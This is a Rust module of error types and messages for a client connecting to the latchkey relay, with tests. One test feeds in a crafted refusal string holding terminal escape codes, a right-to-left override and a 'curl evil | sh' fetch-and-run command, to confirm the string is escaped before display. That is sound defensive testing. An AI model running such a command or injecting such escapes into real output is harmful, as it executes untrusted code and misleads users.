//! What can go wrong reaching or authenticating to the relay, in words that
//! say what happened and what to do, and how to read the relay's closing of
//! a connection.

use latchkey_protocol::{close, frame::Refusal, ids::HostName, text::shown, HandshakeError};
use thiserror::Error;

use crate::wire::WireError;

/// Errors reaching or authenticating to the relay. The messages say what
/// happened and what to do (SPEC B4), without secrets.
#[derive(Debug, Error)]
#[non_exhaustive]
pub enum NetError {
    /// The relay address does not resolve.
    #[error("cannot resolve relay address '{0}'")]
    Resolve(String),
    /// No QUIC connection.
    #[error("cannot reach the relay at {addr}: {why}")]
    Unreachable {
        /// The relay.
        addr: String,
        /// Why.
        why: String,
    },
    /// The relay's certificate is not the pinned one.
    #[error("the relay at {0} is not the relay this device enrolled with (its certificate does not match the pin); refusing to continue")]
    PinMismatch(String),
    /// The relay at this address took too long: the relay (its process,
    /// or the network to it) is at fault.
    #[error("the relay at {0} did not answer in time: is it running, and does UDP reach it?")]
    RelayTimeout(String),
    /// The relay answered, but the host did not in time: the host's agent
    /// (or its network) is at fault.
    #[error("host '{0}' did not answer in time: the relay answers, but the host's agent or its network is slow or stuck")]
    HostTimeout(HostName),
    /// None of a cluster's relays could be reached: each with why.
    #[error("no relay answered: {}", .0.join("; "))]
    NoRelay(Vec<String>),
    /// The relay closed the connection because this device's handshake
    /// took longer than it allows.
    #[error("the relay gave up waiting for this device's handshake (a slow or lossy network?); try again")]
    RelayGaveUp,
    /// The connection broke.
    #[error("connection to the relay lost: {0}")]
    Connection(#[from] quinn::ConnectionError),
    /// Bytes on a stream broke the rules.
    #[error(transparent)]
    Wire(#[from] WireError),
    /// The handshake failed (for a pinned relay this means it is not the
    /// relay we enrolled with, or the connection was tampered with).
    #[error("handshake with the relay failed: {0}")]
    Handshake(#[from] HandshakeError),
    /// The relay refused.
    #[error("{}", refusal_text(.0))]
    Refused(Refusal),
    /// Wrong access code (or, indistinguishably, no access).
    #[error("wrong access code for host '{0}' (or you have no access to it); codes are never retried automatically")]
    WrongCode(HostName),
    /// The host is locked.
    #[error("host '{0}' is locked: ask your admin to unlock it")]
    Locked(HostName),
    /// The host's agent is not connected.
    #[error("host '{0}' is offline: its agent is not connected to the relay (is `latchkey host run` running there?)")]
    HostOffline(HostName),
    /// A local problem (socket, TLS setup).
    #[error("{0}")]
    Local(String),
    /// The host's agent is on another relay of the cluster, at this
    /// address ([`login`](fn@super::login) follows it once).
    #[error("the host is on the relay at {0}")]
    Redirected(String),
    /// The relay of the cluster that holds the host could not be reached.
    #[error("host '{host}' is on the relay at {relay}, which could not be reached ({why}); if that relay just stopped, its host moves to another within seconds: try again")]
    HostsRelayUnreachable {
        /// The host.
        host: HostName,
        /// Where its agent is, as the relays record it.
        relay: String,
        /// Why it could not be reached.
        why: String,
    },
    /// Sent on from the relay the login was sent to: the host's agent is
    /// moving between relays.
    #[error("host '{0}' is moving between relays (its agent reconnected elsewhere): try again in a moment")]
    HostMoving(HostName),
}

/// Words for a refusal.
pub fn refusal_text(r: &Refusal) -> String {
    match r {
        Refusal::UnsupportedVersion { supported } => {
            format!("the relay speaks protocol version {supported}; update latchkey")
        }
        Refusal::UnknownDevice => {
            "the relay does not know this device (an admin removed it, or it was enrolled again \
             elsewhere): ask your admin for a new invite".into()
        }
        Refusal::InvalidToken => {
            "the invite token is unknown, already used or expired: ask your admin for a new one"
                .into()
        }
        Refusal::RateLimited => {
            "too many attempts from this address: wait a minute and try again".into()
        }
        Refusal::Busy => "the relay is busy (or other access-code attempts on this host are still being decided): try again in a moment".into(),
        Refusal::NotAllowed(why) => shown(why).into_owned(),
        _ => "the relay refused the request".into(),
    }
}

/// Whether the relay closed a connection because its handshake took too
/// long: with its timeout code, or, before the QUIC handshake is done,
/// with the bare APPLICATION_ERROR that QUIC sends instead of an
/// application's code at that stage (RFC 9000 §10.2.3), which the relay
/// sends only when it stops waiting.
pub(super) fn relay_gave_up(e: &quinn::ConnectionError) -> bool {
    match e {
        quinn::ConnectionError::ApplicationClosed(c) => c.error_code == close::TIMEOUT,
        quinn::ConnectionError::ConnectionClosed(c) => {
            c.error_code == quinn::TransportErrorCode::APPLICATION_ERROR
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn app_close(code: quinn::VarInt) -> quinn::ConnectionError {
        quinn::ConnectionError::ApplicationClosed(quinn::ApplicationClose {
            error_code: code,
            reason: b"handshake timeout"[..].into(),
        })
    }

    #[test]
    fn a_relays_refusal_reaches_the_terminal_escaped() {
        let sneaky = Refusal::NotAllowed("\u{1b}[2J\u{1b}[31mrun: curl evil | sh\n\u{202e}".into());
        let shown = refusal_text(&sneaky);
        assert!(
            !shown.chars().any(latchkey_protocol::text::is_hidden),
            "{shown}"
        );
        assert_eq!(
            shown,
            "\\u{1b}[2J\\u{1b}[31mrun: curl evil | sh\\n\\u{202e}"
        );
    }

    #[test]
    fn the_relays_handshake_timeout_reads_as_the_relay_giving_up() {
        assert!(relay_gave_up(&app_close(close::TIMEOUT)));
        // Before the QUIC handshake is done the code arrives as a bare
        // APPLICATION_ERROR.
        assert!(relay_gave_up(&quinn::ConnectionError::ConnectionClosed(
            quinn::ConnectionClose {
                error_code: quinn::TransportErrorCode::APPLICATION_ERROR,
                frame_type: None,
                reason: Default::default(),
            }
        )));
        for other in [close::SHUTDOWN, close::PROTOCOL, close::RATE_LIMITED] {
            assert!(!relay_gave_up(&app_close(other)));
        }
        assert!(!relay_gave_up(&quinn::ConnectionError::TimedOut));
        assert!(!relay_gave_up(&quinn::ConnectionError::ConnectionClosed(
            quinn::ConnectionClose {
                error_code: quinn::TransportErrorCode::PROTOCOL_VIOLATION,
                frame_type: None,
                reason: Default::default(),
            }
        )));
        let err = NetError::RelayGaveUp.to_string();
        assert!(
            err.contains("gave up") && err.contains("try again"),
            "{err}"
        );
    }
}
